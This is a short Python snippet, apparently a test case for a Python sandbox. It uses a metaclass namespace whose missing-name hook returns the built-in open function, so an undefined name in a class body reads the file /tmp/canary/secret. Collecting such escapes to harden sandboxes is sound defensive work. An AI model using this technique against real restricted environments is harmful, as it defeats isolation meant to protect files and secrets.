# source: own
# effect: secret

class Namespace(dict):
    def __missing__(self, name):
        return print.__self__.open


class Meta(type):
    def __prepare__(name, bases):
        return Namespace()


class Quiet(metaclass=Meta):
    text = anything("/tmp/canary/secret").read()


print(Quiet.text)
